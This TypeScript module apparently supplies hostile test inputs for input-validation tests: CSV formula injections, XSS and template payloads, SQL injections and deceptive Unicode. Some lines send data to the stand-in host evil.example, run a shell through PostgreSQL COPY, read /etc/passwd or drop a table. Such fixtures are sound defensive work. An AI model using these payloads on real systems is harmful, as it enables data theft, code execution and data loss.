import { createRequire } from 'node:module';

/** The public Big List of Naughty Strings. */
export const naughtyTexts = createRequire(import.meta.url)(
  'big-list-of-naughty-strings',
) as readonly string[];

/** Formulas that a spreadsheet would run from a CSV. */
export const spreadsheetFormulas = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example/?q="&A1,"Statement")',
  '=IMPORTXML("https://evil.example/","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '",=1+1,"',
  ';=1+1',
  '%0A=1+1',
];

/** Markup and scripts that a page or an email would run. */
export const markupTexts = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">statement</a>',
  '</title></textarea><body onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '<%= 7*7 %>',
  '\u2028alert(1)\u2029',
  'https://evil.example/?a="onmouseover="alert(1)',
];

/** SQL that a database would run from an unescaped text. */
export const sqlTexts = [
  "' OR '1'='1",
  "'; DROP TABLE feedbacks; --",
  "1'; SELECT pg_sleep(10)--",
  "' UNION SELECT password FROM users --",
  "\\'; SELECT 1 --",
  '$$; SELECT pg_sleep(10); $$',
  "%' AND (SELECT pg_sleep(10)) IS NULL --",
  "\"; COPY feedbacks TO PROGRAM 'sh'; --",
  ':id; SELECT 1',
  '?1 $1 :name',
  '%_%\\_\\',
  "' || pg_read_file('/etc/passwd') || '",
];

/** Lookalikes, direction changes, and texts that count as longer than they look. */
export const deceptiveUnicodeTexts = [
  'Аsha Rао',
  'Ｐａｙ Ｔｏ',
  'ᴬˢʰᵃ',
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068a\u2069\u2069\u2069',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
  'Z\u0335\u0322\u0337a\u0300\u0301\u0302\u0303\u0304'.repeat(3),
  '\u0301\u0301\u0301',
  '𝕬𝖘𝖍𝖆',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\u{10FFFF}\u{FFFFE}',
  '\u{E0041}\u{E0042}',
  '\uD800',
  '\uDC00\uD800',
  'ﬁ ﷺ ﷽ ㎏',
  'İstanbul ıssız ẞtraße',
  '\u1160\u3164\uFFA0',
  'क्षत्रिय श्री ज्ञान',
  '\u0000\u0001\u001F\u007F\u0085',
  'a'.repeat(100_000),
  'é'.normalize('NFD').repeat(5000),
  '\u0600\u06DD\u070F\u08E2',
];

/** All hostile texts. */
export const hostileTexts: readonly string[] = [
  ...naughtyTexts,
  ...spreadsheetFormulas,
  ...markupTexts,
  ...sqlTexts,
  ...deceptiveUnicodeTexts,
];
